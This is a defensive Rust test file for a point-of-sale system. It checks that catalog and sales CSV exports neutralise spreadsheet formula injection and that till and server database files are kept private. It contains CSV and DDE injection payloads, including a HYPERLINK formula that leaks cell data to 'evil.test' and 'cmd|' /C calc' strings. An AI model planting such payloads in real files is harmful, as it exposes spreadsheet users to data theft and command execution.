//! Attacks through files: formulas smuggled into CSV exports (a product name typed on a till, a
//! terminal code written into a journal by a stolen till) that would run in the owner's
//! spreadsheet, and database files holding secrets that other accounts on the machine could read.

use std::path::Path;
use std::time::{Duration, Instant};

use pos_core::shared_model::cart::Cart;
use pos_core::shared_model::catalog::{Category, Product};
use pos_core::shared_model::csv_cell::FORMULA_STARTS;
use pos_core::shared_model::ids::CategoryId;
use pos_core::shared_model::money::{Money, Quantity};
use pos_core::shared_model::payment::Tender;
use pos_core::shared_model::settings::StoreSettings;
use pos_core::shared_model::users::Role;
use pos_core::{NewStore, Terminal};
use shared_model::wire;
use snapkasir_tests::attack::{AttackServer, RawSync, Scratch, sync_message_of_document};

/// Text a cashier or a manager can type that a spreadsheet would run.
const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.test/?\"&A1,\"Klik\")",
    "+62-812-555",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "=1+1",
    "'=already quoted",
];

/// The cells of a CSV text, parsed as a spreadsheet would split them.
fn cells(csv_text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv_text.as_bytes())
        .records()
        .map(|r| {
            r.expect("a CSV record")
                .iter()
                .map(str::to_string)
                .collect()
        })
        .collect()
}

fn assert_no_formula(csv_text: &str, what: &str) {
    for row in cells(csv_text) {
        for cell in row {
            assert!(
                !cell.starts_with(FORMULA_STARTS),
                "{what}: the cell {cell:?} would run as a formula"
            );
        }
    }
}

fn new_till(path: &Path, store_id: &str, store_code: &str, terminal_code: &str) -> Terminal {
    let mut t = Terminal::open(path).expect("open the till's store");
    t.create_store(NewStore {
        store_id: store_id.into(),
        store_code: store_code.into(),
        terminal_code: terminal_code.into(),
        settings: StoreSettings::indonesia("Toko Aman", "Jl. Merdeka 1"),
    })
    .expect("create store");
    t
}

/// A manager types formulas as product names, SKUs and a category on the till; the catalog
/// export neutralises every one, and importing that export on another till gives back exactly
/// what was typed.
#[test]
fn formulas_typed_on_a_till_do_not_run_in_the_catalog_export() {
    let dir = Scratch::new("attack-csv-till");
    let mut till = new_till(&dir.path().join("t1.db"), "store-1", "TKO", "T1");
    let category = till
        .save_category(Category {
            id: CategoryId::new(),
            name: "=cmd|' /C notepad'!A0".into(),
            parent: None,
        })
        .expect("category");
    let mut typed = Vec::new();
    for (i, formula) in FORMULAS.iter().enumerate() {
        let sku = if i % 2 == 0 {
            format!("SKU-{i}")
        } else {
            formula.replace([' ', '"'], "")
        };
        let mut p = Product::new(&sku, formula, Money::from_i64(1000 + i as i64), "standard");
        p.category_id = Some(category.id);
        till.create_product(p).expect("product");
        typed.push((sku, formula.to_string()));
    }

    let mut out = Vec::new();
    till.export_catalog_csv(&mut out).expect("export");
    let text = String::from_utf8(out).expect("utf-8");
    assert_no_formula(&text, "the till's catalog export");

    // The export is a backup too: it imports back unchanged.
    let mut other = new_till(&dir.path().join("t2.db"), "store-1", "TKO", "T2");
    let report = other
        .import_catalog_csv(text.as_bytes(), |_| true)
        .expect("import");
    assert!(report.rejected.is_empty(), "{:?}", report.rejected);
    for (sku, name) in &typed {
        let p = other
            .product_by_sku(sku)
            .expect("lookup")
            .unwrap_or_else(|| panic!("{sku} was not imported back"));
        assert_eq!(&p.name, name);
    }
    let names: Vec<String> = other
        .categories()
        .unwrap()
        .into_iter()
        .map(|c| c.name)
        .collect();
    assert_eq!(names, [category.name]);
}

/// A stolen (or dishonest) till writes a journal whose terminal code is a formula behind a tab,
/// which a spreadsheet skips; the owner's `sales.csv` downloaded over HTTP carries it as text.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_formula_written_by_a_till_does_not_run_in_the_servers_sales_csv() {
    let s = AttackServer::start("csv_server").await;
    let enrolled = s.enroll(&s.a, "Kasir Curian").await;
    let evil = "\t=HYPERLINK(\"http://evil.test/?\"&A1,\"T1\")";

    // A real till makes a real sale; its journal is then edited before it is sent.
    let dir = Scratch::new("attack-csv-server");
    let mut till = new_till(
        &dir.path().join("t.db"),
        &s.a.store_id,
        &s.a.store_code,
        &enrolled.terminal_code,
    );
    let cashier = till.add_user("Sari", Role::Cashier, "1111").unwrap().id;
    till.start_shift(cashier, Money::from_i64(0)).unwrap();
    let product = till
        .create_product(Product::new(
            "KOPI",
            "Kopi",
            Money::from_i64(5000),
            "standard",
        ))
        .unwrap();
    let mut cart = Cart::new();
    till.cart_add_product(&mut cart, product.id, None, Quantity::from_i64(1))
        .unwrap();
    let total = till.price(&cart).unwrap().total();
    till.checkout(&cart, &[Tender::cash(total)], cashier, None)
        .unwrap();
    let journal_id = till
        .documents()
        .unwrap()
        .into_iter()
        .find(|(_, kind, _)| kind == "journal")
        .map(|(id, _, _)| id)
        .expect("the sale's journal");
    let mut journal =
        automerge::AutoCommit::load(&till.export_document(&journal_id).unwrap()).unwrap();
    automerge::transaction::Transactable::put(&mut journal, automerge::ROOT, "terminal_code", evil)
        .unwrap();
    wire::check_document_id(&journal_id).expect("a sync document id");

    let mut raw = RawSync::connect(&s.ws_url(&enrolled.device_credential), "stolen-till").await;
    let data = sync_message_of_document(journal.document());
    raw.send(raw.sync_frame(&journal_id, &data)).await;
    s.wait_stored(&journal_id).await;

    let url = format!(
        "{}/api/v1/stores/{}/exports/sales.csv?from=2000-01-01&to=2100-01-01",
        s.url(),
        s.a.store_id
    );
    let deadline = Instant::now() + Duration::from_secs(15);
    let text = loop {
        let text = s
            .http
            .get(&url)
            .bearer_auth(&s.a.owner_token)
            .send()
            .await
            .expect("sales.csv")
            .text()
            .await
            .expect("csv text");
        if cells(&text).len() > 1 {
            break text;
        }
        assert!(
            Instant::now() < deadline,
            "the sale was never projected: {text}"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    assert_no_formula(&text, "the server's sales.csv");
    let rows = cells(&text);
    let column = rows[0]
        .iter()
        .position(|h| h == "terminal_code")
        .expect("column");
    assert_eq!(
        rows[1][column],
        format!("'{evil}"),
        "kept as text, not dropped"
    );
}

#[cfg(unix)]
fn mode(p: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(p)
        .unwrap_or_else(|e| panic!("{}: {e}", p.display()))
        .permissions()
        .mode()
        & 0o777
}

#[cfg(unix)]
fn set_mode(p: &Path, m: u32) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(m)).unwrap();
}

#[cfg(unix)]
fn with_suffix(p: &Path, suffix: &str) -> std::path::PathBuf {
    let mut s = p.as_os_str().to_owned();
    s.push(suffix);
    s.into()
}

/// Another account on the till's machine reads the store file (device credential, store key,
/// PIN hashes, every document): the file and its WAL and shared memory are 0600, and a file left
/// 0644 by an older version is tightened when it is opened, and so is the copy taken before its
/// schema is migrated.
#[cfg(unix)]
#[test]
fn the_tills_database_files_are_private() {
    let dir = Scratch::new("attack-files-till");
    let db = dir.path().join("terminal.db");
    let companions = |db: &Path| {
        [
            db.to_path_buf(),
            with_suffix(db, "-wal"),
            with_suffix(db, "-shm"),
        ]
    };
    let mut till = new_till(&db, "store-1", "TKO", "T1");
    till.add_user("Sari", Role::Cashier, "1111").unwrap();
    for file in companions(&db) {
        assert_eq!(mode(&file), 0o600, "{} while the till runs", file.display());
    }
    drop(till);

    // An older version made this file, at schema 1, readable by everyone.
    let old = dir.path().join("old.db");
    schema_1_file(&old);
    for file in companions(&old).iter().filter(|f| f.exists()) {
        set_mode(file, 0o644);
    }
    let till = Terminal::open(&old).expect("open and migrate the old file");
    let backup = till
        .backup_taken()
        .expect("a backup before migrating")
        .to_path_buf();
    for file in companions(&old) {
        assert_eq!(mode(&file), 0o600, "{} after opening", file.display());
    }
    drop(till);
    assert_eq!(mode(&backup), 0o600, "the pre-migration backup");
    for entry in std::fs::read_dir(dir.path()).unwrap() {
        let p = entry.unwrap().path();
        assert_eq!(mode(&p), 0o600, "{}", p.display());
    }
}

/// Writes a store file at schema version 1, as the first release wrote it.
#[cfg(unix)]
fn schema_1_file(path: &Path) {
    let mut conn = pos_core::db::connect(path).unwrap();
    pos_core::db::migrate(&mut conn, path, &pos_core::db::MIGRATIONS[..1]).unwrap();
}

/// Another account on the server's machine reads the embedded store (JWT key, credential
/// hashes, store keys, every document): the data directory the server creates is 0700, the
/// database and its WAL and shared memory 0600, and files left wider are tightened on start.
#[cfg(unix)]
#[test]
fn the_embedded_servers_database_files_are_private() {
    let dir = Scratch::new("attack-files-server");
    let data = dir.path().join("data/snapkasir");
    let db_args = ["--data-dir".to_string(), data.display().to_string()];
    let log = dir.path().join("server.log");
    let db = data.join("snapkasir-server.db");
    let files = [
        db.clone(),
        with_suffix(&db, "-wal"),
        with_suffix(&db, "-shm"),
    ];

    let server =
        snapkasir_tests::processes::ServerProcess::start_with(&db_args, &[], "127.0.0.1:0", &log);
    assert_eq!(mode(&data), 0o700, "the data directory it created");
    assert_eq!(
        mode(&dir.path().join("data")),
        0o700,
        "its parent it created"
    );
    for f in &files {
        assert_eq!(mode(f), 0o600, "{} while the server runs", f.display());
    }
    server.terminate();

    for f in files.iter().filter(|f| f.exists()) {
        set_mode(f, 0o644);
    }
    let server =
        snapkasir_tests::processes::ServerProcess::start_with(&db_args, &[], "127.0.0.1:0", &log);
    for f in &files {
        assert_eq!(mode(f), 0o600, "{} after a restart", f.display());
    }
    server.terminate();
}
